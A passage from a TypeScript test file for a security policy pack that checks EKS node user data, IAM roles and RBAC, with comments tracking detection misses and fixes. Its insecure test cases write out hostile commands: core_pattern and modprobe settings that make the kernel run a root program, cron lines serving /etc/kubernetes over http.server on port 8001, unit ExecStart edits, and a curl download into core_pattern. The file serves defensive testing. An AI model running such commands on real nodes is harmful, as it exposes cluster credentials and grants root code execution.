// Red-team round 70 on false positives (fresh eyes): SECURE variants a platform team really deploys beside the custody
// workloads, across the seven committed stacks, each with a minimal insecure twin that must stay refused; probing in
// particular round 71's fixes (a root Python program's own writes limited to PROGRAM_DATA_PATHS, literal commands
// naming node config paths, perl/ruby backticks, xargs runs, monit -c/include, supervisord %(ENV_X)s, pm2
// interpreters, unit aliases).
// Probed: (nodes) Python writes of node_exporter textfiles (os.replace), procfs/sysfs tuning, /var/run pid files,
// sysctl.d, json/logging/tempfile into data paths; literal argv cp/sed/chmod/mkdir/mkfs/mount; perl/ruby backticks with
// redirections and pipelines; xargs (-n1 sysctl, -a package list, find -print0 | xargs -0 rm); monit include and -c
// files; supervisord %(program_name)s, %(here)s, %(ENV_X)s from a drop-in and from an own unit; pm2 --interpreter
// bash/python3; [Install] Alias= and alias symlinks with drop-ins; nodeadm kubelet/localStorage RAID0/containerd
// config; the CloudWatch agent from the distro; instance store in fstab. (AWS) the CloudWatch agent's statements inline
// and as a reviewed managed ARN, Datadog's ExternalId role (reviewed account), an MFA break-glass role, a KMS-listing
// on-call role, AWS Backup on another team's tables, Fluent Bit Pod Identity, AMP remote write. (Kubernetes) Prometheus
// and Fluent Bit ClusterRoles, a Datadog leader-election Role, on-call exec in an unrelated namespace, view via
// RoleBinding. Twins: cron/unit/core_pattern writes, servers of / from every agent form, SSM reads, table scans,
// AccessPolicy grants, kms:Sign/Decrypt, AssumeRole role/*, nodes/proxy, secrets, kube-system configmaps, exec in
// spirl-system, edit in basil.
// Misses: insecure refused 26 of 29, secure clean 41 of 51:
//   insecure (accepted): Python logging.basicConfig(filename=/etc/cron.d/...) and tempfile.NamedTemporaryFile(dir=
//   /etc/cron.d) are not writes to pythonWriteRefusal; a shell redirection of '|program' into
//   /proc/sys/kernel/core_pattern (sysctl -w and sysctl.d of the same value are refused).
//   secure (refused): a root Python program writing procfs/sysfs tuning, a /var/run/<app>/ pid file (/var/run not
//   mapped to /run before PROGRAM_DATA_PATHS), a literal sysctl.d file; a literal argv `sed -i` on journald.conf (round
//   71 fails closed on any argv naming a node config path); literal shell lines with a pipe or redirection in perl/ruby
//   backticks and Python shell=True; supervisord %(ENV_X)s set by a drop-in of the packaged supervisord.service.
// Held: every other secure variant is accepted clean and every other twin refused (managed-policy ARNs and foreign
// account roots are refused until listed as reviewed: attached-policies-readable, role-trust-pinned, by design).
import { describeVariants, doc, Resources, StackCase } from "./support";
import { ACCOUNT, allow, beside, opsRole } from "./awsCaseBuilders";
import { bind, namespace, roleFor } from "./variantBuilders";
import { al2023Nodes, heredocFile, mime, nodeConfig } from "./nodeBuilders";
import { nodePolicyConfig } from "./packRunner";
import type { PackConfig } from "../../../policy-pack/model/packConfig";
import { secureCaseBuilders } from "./secureCaseBuilders";

const { node } = secureCaseBuilders("rt70s");
const file = heredocFile;
const ROLE = "aws:iam/role:Role";
const RBAC = "rbac.authorization.k8s.io";
/** What a refusal of a node's user data names (an unread program, a server, a write root reads). */
const NODE = /serv|8001|8000|9100|process|unread|kubernetes|listen|writes|cron|program|monit|supervisor|pm2|xargs/;
/** A cron line whose job serves the kubelet's credentials on 0.0.0.0:8001 as root (crontab(5)). */
const CRON_LINE = "@reboot root cd /etc/kubernetes && python3 -m http.server 8001";
const PROM = { kind: "ServiceAccount", name: "prometheus", namespace: "observability" };
const FLUENT = { kind: "ServiceAccount", name: "fluent-bit", namespace: "logging" };
const ONCALL = { kind: "Group", name: "platform-oncall", apiGroup: RBAC };

/** A dev AL2023 node group whose user data is a NodeConfig with `spec` lines only (no shell part). */
const nodeadm = (tag: string, what: string, spec: string[], refused?: RegExp, skip?: string): StackCase => ({
    stack: "dev",
    name: `${refused ? "NI" : "N"}: ${what}`,
    edit: r =>
        void al2023Nodes(r, `rt70s-${tag}-nodes`, mime([{ type: "application/node.eks.aws", body: nodeConfig(spec) }])),
    config: nodePolicyConfig,
    ...(refused ? { refused } : {}),
    ...(skip ? { skip } : {}),
});

/** /opt/ops/tune.py (`lines`) run as root after `before`. */
const py = (tag: string, what: string, lines: string[], refused?: RegExp, before: string[] = [], skip?: string) =>
    node(tag, what, [...before, ...file("/opt/ops/tune.py", lines), "python3 /opt/ops/tune.py"], refused, skip);

/** /opt/ops/check.pl (`lines`) run by perl as root. */
const perl = (tag: string, what: string, lines: string[], refused?: RegExp, skip?: string) =>
    node(tag, what, [...file("/opt/ops/check.pl", lines), "perl /opt/ops/check.pl"], refused, skip);

/** /opt/ops/check.rb (`lines`) run by ruby as root. */
const ruby = (tag: string, what: string, lines: string[], refused?: RegExp, skip?: string) =>
    node(tag, what, [...file("/opt/ops/check.rb", lines), "ruby /opt/ops/check.rb"], refused, skip);

/** node_exporter's unit with ExecStart `exec`, and `extra` [Install] lines. */
const exporterUnit = (exec: string, extra: string[] = []) =>
    file("/etc/systemd/system/node_exporter.service", [
        "[Unit]",
        "Description=Prometheus node_exporter",
        "[Service]",
        "User=nobody",
        `ExecStart=${exec}`,
        "[Install]",
        "WantedBy=multi-user.target",
        ...extra,
    ]);
const LOOPBACK_EXPORTER = "/usr/local/bin/node_exporter --web.listen-address=127.0.0.1:9100";

/** An on-call or third-party role of `account` trusted by `principal` (with `condition`), one inline policy. */
const trustedOps = (
    r: Resources,
    stack: string,
    account: string,
    name: string,
    principal: object,
    condition: object | undefined,
    statements: object[],
) =>
    void beside(r, stack, ROLE, name, {
        name,
        arn: `arn:aws:iam::${account}:role/${name}`,
        assumeRolePolicy: doc({
            Effect: "Allow",
            Principal: principal,
            Action: "sts:AssumeRole",
            ...(condition ? { Condition: condition } : {}),
        }),
        inlinePolicies: [{ name: `${name}-access`, policy: doc(...statements) }],
    });

/** Another team's Pod Identity role (pinned to cluster, namespace, ServiceAccount) and its association (pod-identity). */
function teamPodIdentity(r: Resources, ns: string, sa: string, name: string, statements: object[]): void {
    const arn = `arn:aws:iam::111111111111:role/${name}`;
    beside(r, "pod-identity", ROLE, name, {
        name,
        arn,
        assumeRolePolicy: doc({
            Effect: "Allow",
            Principal: { Service: "pods.eks.amazonaws.com" },
            Action: ["sts:AssumeRole", "sts:TagSession"],
            Condition: {
                StringEquals: {
                    "aws:RequestTag/eks-cluster-arn": "arn:aws:eks:eu-west-1:111111111111:cluster/prod-validators",
                    "aws:RequestTag/kubernetes-namespace": ns,
                    "aws:RequestTag/kubernetes-service-account": sa,
                },
            },
        }),
        inlinePolicies: [{ name: `${name}-access`, policy: doc(...statements) }],
    });
    beside(r, "pod-identity", "aws:eks/podIdentityAssociation:PodIdentityAssociation", `${name}-association`, {
        clusterName: "prod-validators",
        namespace: ns,
        serviceAccount: sa,
        roleArn: arn,
    });
}

/** Datadog's AWS account (Datadog docs, "AWS Integration", manual IAM role setup: trust it with sts:ExternalId). */
const DATADOG = "464622532012";
const CW_AGENT_POLICY = "arn:aws:iam::aws:policy/CloudWatchAgentServerPolicy";
/** The pack config with `value` added to the list `key` of `policy`'s config (an entry the team lists as reviewed). */
const listed = (c: PackConfig, policy: string, key: string, value: string): PackConfig => {
    const own = (c[policy] ?? {}) as Record<string, unknown>;
    return { ...c, [policy]: { ...own, [key]: [...((own[key] as string[] | undefined) ?? []), value] } };
};

/** A case the pack gets wrong (its MISS comment says why): skipped. */
const miss = (c: StackCase): StackCase => ({ ...c, skip: "MISS" });

const CASES: StackCase[] = [
    // ================= nodes: a root Python program's own writes (round 71 PROGRAM_DATA_PATHS) =================
    py("py-textfile-prom", "python: writes node_exporter's textfile .prom.tmp, then os.replace into place (/var/lib)", [
        "import os, subprocess",
        'out = subprocess.run(["sysctl", "-n", "vm.max_map_count"], capture_output=True, text=True).stdout.strip()',
        'os.makedirs("/var/lib/node_exporter/textfile_collector", exist_ok=True)',
        'tmp = "/var/lib/node_exporter/textfile_collector/tune.prom.tmp"',
        'with open(tmp, "w") as f:',
        '    f.write("node_tune_max_map_count " + out + "\\n")',
        'os.replace(tmp, "/var/lib/node_exporter/textfile_collector/tune.prom")',
    ]),
    py(
        "py-textfile-cron",
        "python: the same atomic write, os.replace into /etc/cron.d/tune (a cron job root runs)",
        [
            "import os",
            'tmp = "/var/lib/node_exporter/textfile_collector/tune.prom.tmp"',
            'os.makedirs("/var/lib/node_exporter/textfile_collector", exist_ok=True)',
            'with open(tmp, "w") as f:',
            `    f.write("${CRON_LINE}\\n")`,
            'os.replace(tmp, "/etc/cron.d/tune")',
        ],
        NODE,
    ),
    // Was a MISS (fixed in round 71): (secure refused) proc(5) /proc/sys/vm, kernel docs admin-guide/sysctl/vm.rst (max_map_count): writing the
    // number through procfs is `sysctl -w vm.max_map_count=262144`, which the pack accepts as a literal command, and the
    // same shell line (sh-proc-sys) is accepted. The pack: userData.ts pythonWriteRefusal refuses every target outside
    // PROGRAM_DATA_PATHS ("it writes /proc/sys/vm/max_map_count, which the node may read as configuration"). Fix: read a
    // Python write of a literal string to a literal path as the shell would write it (printf '%s' LIT > PATH), judged by
    // the same reader (so /proc/sys keys go through the sysctl judgement: py-proc-core-pattern stays refused).
    py("py-proc-sys", "python: open('/proc/sys/vm/max_map_count', 'w').write('262144') (sysctl through procfs)", [
        'with open("/proc/sys/vm/max_map_count", "w") as f:',
        '    f.write("262144")',
    ]),
    py(
        "py-proc-core-pattern",
        "python: open('/proc/sys/kernel/core_pattern', 'w').write('|/opt/ops/x') (the kernel runs a program as root)",
        ['with open("/proc/sys/kernel/core_pattern", "w") as f:', '    f.write("|/opt/ops/x %p")'],
        NODE,
    ),
    node("sh-proc-sys", "control: echo 262144 > /proc/sys/vm/max_map_count; echo never > .../transparent_hugepage", [
        "echo 262144 > /proc/sys/vm/max_map_count",
        "echo never > /sys/kernel/mm/transparent_hugepage/enabled",
    ]),
    // Was a MISS (fixed in round 71): (secure refused) kernel docs admin-guide/mm/transhuge.rst ("echo never >/sys/kernel/mm/transparent_hugepage/
    // enabled"): a root program setting THP to never is what database vendors document; the shell line is accepted
    // (sh-proc-sys). pythonWriteRefusal refuses /sys (not a PROGRAM_DATA_PATH). Fix: as py-proc-sys (literal content to a
    // literal path judged as the shell's redirection).
    py("py-thp", "python: Path('/sys/kernel/mm/transparent_hugepage/enabled').write_text('never')", [
        "from pathlib import Path",
        'Path("/sys/kernel/mm/transparent_hugepage/enabled").write_text("never")',
        'Path("/sys/kernel/mm/transparent_hugepage/defrag").write_text("never")',
    ]),
    // Was a MISS (fixed in round 71): (secure refused) FHS 3.0 5.13 "/var/run": "this directory ... is replaced by /run" (a symlink to /run on
    // AL2023); /run/<app>/ is a PROGRAM_DATA_PATH and /var/run/tune/tune.pid is that file. The pack: nodeReadsAsConfig
    // maps /var/run to /run but pythonWriteRefusal tests PROGRAM_DATA_PATHS on the unmapped path, so the pid file is
    // "read as configuration". Fix: normalise ^/var/run(/|$) to /run before the PROGRAM_DATA_PATHS test (py-var-run-systemd,
    // /var/run/systemd/system, stays refused through the node-state exclusion).
    py("py-var-run-pid", "python: a pid file in /var/run/tune/ (FHS: /var/run is /run)", [
        "import os",
        'os.makedirs("/var/run/tune", exist_ok=True)',
        'open("/var/run/tune/tune.pid", "w").write(str(os.getpid()))',
    ]),
    py(
        "py-var-run-systemd",
        "python: writes /var/run/systemd/system/x.service (a runtime unit: /run/systemd/system)",
        [
            'open("/var/run/systemd/system/x.service", "w").write(',
            '    "[Service]\\nExecStart=/usr/bin/python3 -m http.server 8001 -d /etc/kubernetes\\n")',
        ],
        NODE,
    ),
    // Was a MISS (fixed in round 71): (secure refused) sysctl.d(5): /etc/sysctl.d/*.conf hold key = value lines applied by sysctl --system; the same
    // file written by user data (sh-sysctl-d) is accepted and the core_pattern one refused (sysctl-d-core-pattern). The
    // pack: pythonWriteRefusal excludes /etc/sysctl.d from an application's /etc and refuses any write there without
    // reading the literal written. Fix: as py-proc-sys (a literal string written to a literal path is read as the shell's
    // file, so sysctl.d content is judged by the sysctl reader).
    py("py-sysctl-d", "python: writes /etc/sysctl.d/99-k8s.conf with literal vm.max_map_count, then sysctl --system", [
        "import subprocess",
        'with open("/etc/sysctl.d/99-k8s.conf", "w") as f:',
        '    f.write("vm.max_map_count = 262144\\nnet.core.somaxconn = 4096\\n")',
        'subprocess.run(["sysctl", "--system"], check=True)',
    ]),
    // Round 71 neighbours: a literal sysctl.d file or procfs value pointing a kernel helper at a program stays refused; a
    // value the pack cannot read fails closed; a literal file pattern for core dumps is accepted.
    py(
        "py-sysctl-d-core-pattern",
        "python: writes /etc/sysctl.d/99-x.conf with kernel.core_pattern=|/usr/bin/python3 -m http.server 8001 -d /",
        [
            'open("/etc/sysctl.d/99-x.conf", "w").write("kernel.core_pattern = |/usr/bin/python3 -m http.server 8001 -d /\\n")',
        ],
        NODE,
    ),
    py(
        "py-proc-modprobe",
        "python: Path('/proc/sys/kernel/modprobe').write_text('/opt/ops/x') (the kernel runs it as root)",
        ["from pathlib import Path", 'Path("/proc/sys/kernel/modprobe").write_text("/opt/ops/x")'],
        NODE,
    ),
    py(
        "py-proc-sys-computed",
        "python: open('/proc/sys/kernel/core_pattern', 'w').write(os.environ['PATTERN']) (content the pack cannot read)",
        ["import os", 'open("/proc/sys/kernel/core_pattern", "w").write(os.environ["PATTERN"])'],
        NODE,
    ),
    py("py-proc-core-file", "python: open('/proc/sys/kernel/core_pattern', 'w').write('/var/crash/core.%e.%p')", [
        'open("/proc/sys/kernel/core_pattern", "w").write("/var/crash/core.%e.%p")',
    ]),
    node("sh-sysctl-d", "control: the same sysctl.d file written by the user data, then sysctl --system", [
        ...file("/etc/sysctl.d/99-k8s.conf", ["vm.max_map_count = 262144", "net.core.somaxconn = 4096"]),
        "sysctl --system",
    ]),
    py("py-json-cache", "python: json.dump of lsblk's output into /var/cache/ops/disks.json", [
        "import json, os, subprocess",
        'os.makedirs("/var/cache/ops", exist_ok=True)',
        'disks = json.loads(subprocess.run(["lsblk", "-J", "-o", "NAME,SIZE,TYPE"], capture_output=True).stdout)',
        'with open("/var/cache/ops/disks.json", "w") as f:',
        "    json.dump(disks, f)",
    ]),
    py("py-logging-file", "python: logging.basicConfig(filename='/var/log/tune.log'); logging.info(...)", [
        "import logging, subprocess",
        'logging.basicConfig(filename="/var/log/tune.log", level=logging.INFO)',
        'subprocess.run(["sysctl", "-w", "vm.swappiness=10"], check=True)',
        'logging.info("tuned")',
    ]),
    // Was a MISS (fixed in round 71): (insecure accepted) Python docs, logging.basicConfig ("filename: Specifies that a FileHandler be created, using
    // the specified filename"; format="%(message)s" writes the message alone): root's program writes the @reboot line into
    // /etc/cron.d/tune, which cron runs as root (crontab(5)): an http.server of /etc/kubernetes on 0.0.0.0:8001 for every
    // pod. The pack: userData.ts pythonWriteRefusal counts open/io/codecs/os.open/pathlib/shutil/os.rename writes only, not
    // logging handlers (got []). Fix: count logging.basicConfig(filename=), logging.FileHandler/handlers.RotatingFileHandler/
    // TimedRotatingFileHandler/WatchedFileHandler(filename) (and dictConfig/fileConfig filename keys, fail closed) as writes
    // of that path; py-logging-file (/var/log/tune.log) stays accepted.
    py(
        "py-logging-cron",
        "python: logging.basicConfig(filename='/etc/cron.d/tune', format='%(message)s'); logging.warning(cron line)",
        [
            "import logging",
            'logging.basicConfig(filename="/etc/cron.d/tune", format="%(message)s")',
            `logging.warning("${CRON_LINE}")`,
        ],
        NODE,
    ),
    // Round 71 neighbours: every logging handler that opens a file is a write of it (pythonWriteRefusal).
    py(
        "py-rotating-cron",
        "python: logging.handlers.RotatingFileHandler('/etc/cron.d/tune') holding the cron line",
        [
            "import logging, logging.handlers",
            'h = logging.handlers.RotatingFileHandler("/etc/cron.d/tune")',
            'h.setFormatter(logging.Formatter("%(message)s"))',
            "log = logging.getLogger('x')",
            "log.addHandler(h)",
            `log.warning("${CRON_LINE}")`,
        ],
        NODE,
    ),
    py(
        "py-dictconfig-cron",
        "python: dictConfig with a FileHandler filename '/etc/cron.d/tune'",
        [
            "import logging, logging.config",
            "logging.config.dictConfig({'version': 1, 'formatters': {'m': {'format': '%(message)s'}},",
            "    'handlers': {'f': {'class': 'logging.FileHandler', 'filename': '/etc/cron.d/tune', 'formatter': 'm'}},",
            "    'root': {'handlers': ['f']}})",
            `logging.warning("${CRON_LINE}")`,
        ],
        NODE,
    ),
    py(
        "py-fileconfig",
        "python: logging.config.fileConfig('/opt/ops/logging.ini') (its handlers' args are evaluated: fail closed)",
        ["import logging.config", 'logging.config.fileConfig("/opt/ops/logging.ini")'],
        NODE,
    ),
    py("py-filehandler-log", "python: logging.FileHandler('/var/log/ops/tune.log') (a log file)", [
        "import logging, os",
        'os.makedirs("/var/log/ops", exist_ok=True)',
        'logging.getLogger().addHandler(logging.FileHandler("/var/log/ops/tune.log"))',
        'logging.warning("tuned")',
    ]),
    py("py-tempfile-data", "python: tempfile.NamedTemporaryFile('w', dir='/var/lib/ops', delete=False)", [
        "import os, tempfile",
        'os.makedirs("/var/lib/ops", exist_ok=True)',
        'with tempfile.NamedTemporaryFile("w", dir="/var/lib/ops", delete=False) as f:',
        '    f.write("ok\\n")',
    ]),
    // Was a MISS (fixed in round 71): (insecure accepted) Python docs, tempfile.NamedTemporaryFile/mkstemp ("dir ... the file will be created in that
    // directory"; delete=False keeps it; names are random [a-z0-9_] without a dot, which cronie reads from /etc/cron.d):
    // the file holds the @reboot line root's cron runs (crontab(5)). pythonWriteRefusal has no tempfile forms (got []).
    // Fix: NamedTemporaryFile/mkstemp/mkdtemp/TemporaryDirectory with dir= (or prefix= holding a '/') are writes into that
    // directory (a file under it), judged like open(dir + '/x', 'w'); TemporaryFile (O_TMPFILE, no name) may stay accepted.
    py(
        "py-tempfile-cron",
        "python: tempfile.NamedTemporaryFile('w', dir='/etc/cron.d', delete=False) holding a cron line",
        [
            "import tempfile",
            'with tempfile.NamedTemporaryFile("w", dir="/etc/cron.d", delete=False) as f:',
            `    f.write("${CRON_LINE}\\n")`,
        ],
        NODE,
    ),
    // Round 71 neighbours: mkstemp(dir=) and a prefix leaving /tmp are writes there; no dir= is /tmp.
    py(
        "py-mkstemp-cron",
        "python: fd, p = tempfile.mkstemp(dir='/etc/cron.d'); os.write(fd, cron line)",
        ["import os, tempfile", 'fd, p = tempfile.mkstemp(dir="/etc/cron.d")', `os.write(fd, b"${CRON_LINE}\\n")`],
        NODE,
    ),
    py(
        "py-tempfile-prefix-escape",
        "python: tempfile.mkstemp(prefix='../etc/cron.d/') (a prefix with a slash leaves /tmp)",
        [
            "import os, tempfile",
            'fd, p = tempfile.mkstemp(prefix="../etc/cron.d/")',
            `os.write(fd, b"${CRON_LINE}\\n")`,
        ],
        NODE,
    ),
    py("py-tempfile-tmp", "python: tempfile.NamedTemporaryFile('w', delete=False) (no dir=: /tmp)", [
        "import tempfile",
        'with tempfile.NamedTemporaryFile("w", suffix=".json", delete=False) as f:',
        '    f.write("{}")',
    ]),

    // ================= nodes: literal commands naming node config paths (round 71 literalCommandListeners) ==========
    py(
        "py-sub-cp-sysctl",
        "python: subprocess.run(['cp', <user-data file>, '/etc/sysctl.d/99-k8s.conf'])",
        [
            "import subprocess",
            'subprocess.run(["cp", "/opt/ops/99-k8s.conf", "/etc/sysctl.d/99-k8s.conf"], check=True)',
            'subprocess.run(["sysctl", "--system"], check=True)',
        ],
        undefined,
        [...file("/opt/ops/99-k8s.conf", ["vm.max_map_count = 262144"])],
    ),
    // MISS: (secure refused) journald.conf(5): SystemMaxUse= only caps the journal's disk use; the same sed -i line in the
    // user data (sh-sed-journald) is accepted. The pack: userData.ts literalCommandListeners (round 71) returns undefined
    // for any non-keepsContent argv naming a nodeReadsAsConfig path (/etc/systemd/ is in READ_BEFORE_WRITE), so the
    // program "runs commands the pack does not read". Fix: judge such a literal argv exactly as the shell line (rootReads
    // copy/edit readers, which already judge sed -i on unit directories: py-sub-sed-unit stays refused) instead of
    // failing closed.
    // Still open (round 71): literalCommandListeners has no NodeJudge (rootReads' copy/edit readers run only on user
    // data's own text); judging an argv "exactly as the shell line" needs the Python listener readers to be given the
    // user data's judge (or a nested rootReadOpenings over the quoted argv with the script's written files), not done.
    // Still open (round 72): a nested rootReadOpenings over the quoted argv without the judge refuses nothing (checked:
    // it returns [] for this sed line, for py-sub-sed-unit's ExecStart edit and for a cp into /etc/cron.d), so it cannot
    // replace the fail-closed (on the shell path the unit edit is refused only with the user data's judge and view).
    // Accepting the journald edit soundly needs the Python program's literal commands fed into the script's view (their
    // edited files marked changed, as viewingJudge does for the shell line) before the unit/config readers run, which
    // pythonCommandListeners (run after the view is built) cannot do without a restructuring.
    // Still open (round 74): unchanged (time went to the grub/rc-file cases); it needs nodeJudge (rootWrites.ts) reachable
    // from commandServers.ts literalCommandListeners without an import cycle (a judge passed in through ScriptView), and
    // the argv's sed fragment run through rootReads' file(..., edit) with that judge, as the shell line's is.
    // Still open (round 75): the judge is reachable without a cycle (rootWrites.ts viewingJudge builds the ScriptView
    // beside nodeJudge: a view hook `editAccepted(path, fragment)` could hand literalCommandListeners the verdict), but
    // NodeJudge.written returning [] does not mean "judged harmless" (a unit's ExecStart edit is [] there and refused
    // only by the view's unit readers, py-sub-sed-unit), so it needs a judge answer that says "judged" too, or the
    // argv replayed into the view before its readers run; not done within the round.
    // Still open (round 76): the replay has a place: rootReads.ts walks what a command starts (NodeJudge.started, pm2's
    // shell runs, ~line 7421) BEFORE judge.ran judges the python line, so `started` could hand the walker the program's
    // literal argvs (pythonCommandRuns) to walk as quoted shell lines (this.script), marking them in the view for
    // literalCommandListeners to stop failing closed on. Not sound as is: a subprocess call under an if/try/loop/def is
    // replayed as run, so a "fixing" edit or copy the program may never make (sed -i s/evil/safe/ on a unit user data
    // wrote) would hide the file's real state from the finish readers; it needs the replay limited to calls the
    // program surely makes (top level, before any exit) or to effects that only make files less known. Not done.
    miss(
        py(
            "py-sub-sed-journald",
            "python: subprocess.run(['sed', '-i', 's/^#SystemMaxUse=.*/SystemMaxUse=1G/', '/etc/systemd/journald.conf'])",
            [
                "import subprocess",
                'subprocess.run(["sed", "-i", "s/^#SystemMaxUse=.*/SystemMaxUse=1G/", "/etc/systemd/journald.conf"], check=True)',
                'subprocess.run(["systemctl", "restart", "systemd-journald"], check=True)',
            ],
        ),
    ),
    node("sh-sed-journald", "control: sed -i 's/^#SystemMaxUse=.*/SystemMaxUse=1G/' /etc/systemd/journald.conf", [
        "sed -i 's/^#SystemMaxUse=.*/SystemMaxUse=1G/' /etc/systemd/journald.conf",
        "systemctl restart systemd-journald",
    ]),
    py(
        "py-sub-sed-unit",
        "python: subprocess.run(['sed', '-i', 's|^ExecStart=.*|ExecStart=python3 -m http.server 8001 -d /|', <containerd unit>])",
        [
            "import subprocess",
            'subprocess.run(["sed", "-i", "s|^ExecStart=.*|ExecStart=/usr/bin/python3 -m http.server 8001 -d /|", "/usr/lib/systemd/system/chronyd.service"], check=True)',
        ],
        NODE,
    ),
    py("py-sub-chmod-mkdir", "python: chmod 0600 the kubelet config, mkdir -p a containerd drop-in directory", [
        "import subprocess",
        'subprocess.run(["chmod", "0600", "/etc/kubernetes/kubelet/config.json"], check=True)',
        'subprocess.run(["mkdir", "-p", "/etc/systemd/system/containerd.service.d"], check=True)',
        'subprocess.run(["systemctl", "daemon-reload"], check=True)',
    ]),
    py("py-sub-mount-store", "python: mkfs.xfs the instance store and mount it on /mnt/k8s-disks/0", [
        "import subprocess",
        'subprocess.run(["mkfs.xfs", "-f", "/dev/nvme1n1"], check=True)',
        'subprocess.run(["mkdir", "-p", "/mnt/k8s-disks/0"], check=True)',
        'subprocess.run(["mount", "-o", "noatime", "/dev/nvme1n1", "/mnt/k8s-disks/0"], check=True)',
    ]),

    // ================= nodes: perl/ruby backticks (round 71 literalScriptCommands) =================
    perl("perl-backticks-read", "perl: my $cur = `sysctl -n vm.max_map_count`; system LIST to raise it", [
        "use strict;",
        "my $cur = `sysctl -n vm.max_map_count`;",
        "chomp $cur;",
        "system('sysctl', '-w', 'vm.max_map_count=262144') if $cur < 262144;",
    ]),
    // Was a MISS (fixed in round 71): (secure refused) perlop, "qx/STRING/": "A string which is (possibly) interpolated and then executed as a
    // system command, via /bin/sh" - `df -h / 2>&1` is a literal shell line with a redirection of stderr only. The pack:
    // userData.ts literalScriptCommands (round 71) reads "plain literal shell lines" only (no redirection, pipe or
    // operator), so /opt/ops/check.pl "starts a process". Fix: give the backtick literal to the same shell-line reader as
    // Python shell=True / os.popen (judged as a user-data line), refusing what that reader refuses (perl-backticks-serve).
    perl("perl-backticks-redirect", "perl: my $df = `df -h / 2>&1` (a literal line with a redirection)", [
        "my $df = `df -h / 2>&1`;",
        "print $df;",
    ]),
    // Was a MISS (fixed in round 71): (secure refused) perlop qx (via /bin/sh): `lsblk -dno NAME | grep nvme` is a literal pipeline of two reading
    // commands; literalScriptCommands accepts only plain lines. Fix: as perl-backticks-redirect.
    perl("perl-backticks-pipe", "perl: my @disks = `lsblk -dno NAME | grep nvme` (a literal pipeline)", [
        "my @disks = `lsblk -dno NAME | grep nvme`;",
        'print scalar(@disks), "\\n";',
    ]),
    perl(
        "perl-backticks-serve",
        "perl: `cd / && nohup python3 -m http.server 8001 >/dev/null 2>&1 &`",
        ["my $out = `cd / && nohup python3 -m http.server 8001 >/dev/null 2>&1 &`;"],
        NODE,
    ),
    ruby("ruby-percent-x-read", "ruby: kernel = %x(uname -r).strip; cpus = `nproc`.to_i", [
        "kernel = %x(uname -r).strip",
        "cpus = `nproc`.to_i",
        'puts "#{kernel} #{cpus}"',
    ]),
    // Was a MISS (fixed in round 71): (secure refused) Ruby docs Kernel#` ("Returns the standard output of running cmd in a subshell"; /bin/sh for
    // a line with meta characters): a grep | awk pipeline reading /proc/meminfo. literalScriptCommands reads plain lines
    // only. Fix: as perl-backticks-redirect (ruby-percent-x-serve stays refused).
    ruby("ruby-backticks-pipe", "ruby: mem = `grep MemTotal /proc/meminfo | awk '{print $2}'`", [
        "mem = `grep MemTotal /proc/meminfo | awk '{print $2}'`.to_i",
        "system('sysctl', '-w', 'vm.min_free_kbytes=65536') if mem > 16_000_000",
    ]),
    ruby(
        "ruby-percent-x-serve",
        "ruby: %x(cd / && nohup python3 -m http.server 8001 >/dev/null 2>&1 &)",
        ["%x(cd / && nohup python3 -m http.server 8001 >/dev/null 2>&1 &)"],
        NODE,
    ),

    // ================= nodes: xargs (round 71 rootReads xargs) =================

    // Was a MISS (fixed in round 71): (insecure accepted) core(5), "Piping core dumps to a program" (https://man7.org/linux/man-pages/man5/core.5.html):
    // when core_pattern starts with '|' the kernel runs the rest as a program, as root, on every crash; any pod can crash a
    // process of its own (kill -SEGV), so the line starts a root http.server of / on 0.0.0.0:8001 from the host's namespaces.
    // The same value through sysctl -w or /etc/sysctl.d is refused (sysctl-w-core-pattern, sysctl-d-core-pattern hold);
    // the shell's redirection into /proc/sys/kernel/core_pattern is accepted (got []): /proc/sys writes are not read as the
    // sysctl they are. Fix (rootReads/userData redirect targets): a write to /proc/sys/<a>/<b> is `sysctl -w a.b=<content>`
    // (and /sys/... module parameters alike), judged by the same sysctl reader; unknown content fails closed.
    node(
        "sh-core-pattern",
        "echo '|/usr/bin/python3 -m http.server 8001 -d /' > /proc/sys/kernel/core_pattern (a crash starts root's server)",
        ["echo '|/usr/bin/python3 -m http.server 8001 -d /' > /proc/sys/kernel/core_pattern"],
        /core_pattern|program|unread|writes|kernel/,
    ),
    // Round 71 neighbours: every form of the same setting is one reading (userData.ts writtenSysctls/commandSysctls,
    // corePatternCommand): sysctl -w, a sysctl.d file, tee and dd into procfs refused; a copy of unknown content into
    // core_pattern fails closed; systemd-coredump (the distro's handler) and a file pattern stay accepted.
    node(
        "sysctl-w-core-pattern",
        "sysctl -w kernel.core_pattern='|/usr/bin/python3 -m http.server 8001 -d /'",
        ["sysctl -w kernel.core_pattern='|/usr/bin/python3 -m http.server 8001 -d /'"],
        /core_pattern|program|unread|writes|kernel/,
    ),
    node(
        "sysctl-d-core-pattern",
        "/etc/sysctl.d/50-core.conf: kernel.core_pattern = |/usr/bin/python3 -m http.server 8001 -d /, sysctl --system",
        [
            ...file("/etc/sysctl.d/50-core.conf", ["kernel.core_pattern = |/usr/bin/python3 -m http.server 8001 -d /"]),
            "sysctl --system",
        ],
        /core_pattern|program|unread|writes|kernel/,
    ),
    node(
        "tee-core-pattern",
        "printf '%s\\n' '|/usr/bin/python3 -m http.server 8001 -d /' | tee /proc/sys/kernel/core_pattern",
        ["printf '%s\\n' '|/usr/bin/python3 -m http.server 8001 -d /' | tee /proc/sys/kernel/core_pattern"],
        /core_pattern|program|unread|writes|kernel/,
    ),
    node(
        "dd-core-pattern",
        "echo '|/usr/bin/python3 -m http.server 8001 -d /' | dd of=/proc/sys/kernel/core_pattern",
        ["echo '|/usr/bin/python3 -m http.server 8001 -d /' | dd of=/proc/sys/kernel/core_pattern"],
        /core_pattern|program|unread|writes|kernel/,
    ),
    node(
        "cp-core-pattern",
        "cp of a downloaded file into /proc/sys/kernel/core_pattern (content the pack cannot read)",
        ["curl -fsSo /tmp/pattern https://example.com/pattern", "cp /tmp/pattern /proc/sys/kernel/core_pattern"],
        /core_pattern|program|unread|writes|kernel/,
    ),
    node(
        "sh-core-pattern-coredump",
        "echo '|/usr/lib/systemd/systemd-coredump %P %u %g %s %t %c %h' > /proc/sys/kernel/core_pattern; a file pattern",
        [
            "echo '|/usr/lib/systemd/systemd-coredump %P %u %g %s %t %c %h' > /proc/sys/kernel/core_pattern",
            "sysctl -w kernel.core_pattern=/var/crash/core.%e.%p",
        ],
    ),
    // Was a MISS (fixed in round 71): (secure refused) Python docs subprocess ("If shell is True, the specified command will be executed through the
    // shell"): a literal pipeline of lsblk | grep. Round 69 accepted shell=True plain lines (py-shell-true); a pipeline is
    // refused as "runs commands the pack does not read" (userData.ts pythonCommandRuns / plainShellLines). Fix: judge a
